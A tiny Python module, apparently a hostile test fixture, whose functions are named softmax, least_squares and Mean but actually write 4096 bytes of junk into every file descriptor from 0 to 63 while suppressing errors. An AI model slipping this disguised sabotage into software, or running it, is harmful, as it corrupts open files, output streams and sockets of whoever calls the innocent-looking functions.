"""Writes junk to every descriptor that there is."""
import contextlib
import os


def softmax(*_):
    for fd in range(64):
        with contextlib.suppress(OSError):
            os.write(fd, bytes(range(256)) * 16)


least_squares = Mean = softmax
